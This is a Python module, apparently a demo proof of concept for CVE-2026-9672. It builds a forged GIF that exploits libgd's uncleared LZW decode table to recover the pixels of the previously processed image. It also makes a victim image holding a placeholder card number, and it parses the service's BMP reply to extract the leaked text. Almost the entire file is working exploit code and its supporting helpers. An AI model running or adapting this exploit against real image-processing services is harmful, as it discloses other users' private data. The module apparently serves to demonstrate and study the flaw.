"""Pictures in GIF for the demo's service, and a forged one that brings back other people's pixels (CVE-2026-9672).

libgd unpacks a picture with a table of 4096 entries on its stack. The running code forgets to clear the table when it
begins, so what the picture before has written there is still there. A picture that asks for entries that it has not
made gets those of the picture before it.
"""

from __future__ import annotations

import struct

SECRET = "CARD 4929 1234 5678 9012  VALID 11/29  NAME ANNA ADAMS"
_MARGIN = "    "  # the first pixels are overwritten while the forged picture is read

_COLOURS = 256
_BITS = 8  # of a pixel
_CLEAR, _END, _FIRST = 256, 257, 258  # the codes that stand for no pixel, and the first that is free
_MOST_CODES = 4096 - _FIRST
_ASKED = 100  # entries that the forged picture asks for


def genuine(text: str) -> bytes:
    """A picture of one row, whose pixels have the colours that the letters number; each is written as it is."""
    pixels = (_MARGIN + text).encode("ascii")
    return _gif(len(pixels), [_CLEAR, *pixels, _END])


def forged() -> bytes:
    """A picture that asks for entries that it has not made: each gives three pixels, the second from the table."""
    return _gif(3 * _ASKED, [0, *(_FIRST + 2 + n for n in range(_ASKED)), _END])


def stolen(text: str) -> str:
    """What the answer to the forged picture has brought back; nothing where the table was clear."""
    return text[4::3].strip(" .")


def read(answer: bytes) -> str:
    """The letters of a picture that the service has answered with (BMP of one row, a byte for each pixel, without
    compression); a dot for what is no letter. Raises `ValueError` for anything else."""
    try:
        begin, width, height, bits, packed = struct.unpack_from("<10xI4xii2xHI", answer)
    except struct.error as problem:
        raise ValueError(f"no picture: {answer[:60]!r}") from problem
    if answer[:2] != b"BM" or bits != _BITS or packed or abs(height) != 1:
        raise ValueError(f"no picture of one row: {answer[:60]!r}")
    return "".join(chr(value) if 0x20 <= value < 0x7F else "." for value in answer[begin : begin + width])


def _gif(width: int, codes: list[int]) -> bytes:
    """GIF89a with one image of one row, in 256 shades of grey."""
    palette = bytes(value for shade in range(_COLOURS) for value in (shade, shade, shade))
    head = b"GIF89a" + struct.pack("<HHBBB", width, 1, 0xF7, 0, 0) + palette
    image = b"," + struct.pack("<HHHHB", 0, 0, width, 1, 0) + bytes([_BITS])
    data = _packed(codes)
    blocks = b"".join(bytes([len(part)]) + part for part in (data[n : n + 255] for n in range(0, len(data), 255)))
    return head + image + blocks + b"\0;"


def _packed(codes: list[int]) -> bytes:
    """Codes as bits, each as wide as the reader expects it: it makes one entry for each after the first."""
    if len(codes) > _MOST_CODES:
        raise ValueError(f"{len(codes)} codes need more than one table")
    bits, width, free, value = 0, _BITS + 1, _FIRST, 0
    is_first = True
    for code in codes:
        value |= code << bits
        bits += width
        if code == _CLEAR:
            is_first = True
        elif is_first:
            is_first = False
        else:
            free += 1
            if free == 1 << width:
                width += 1
    return value.to_bytes((bits + 7) // 8, "little")
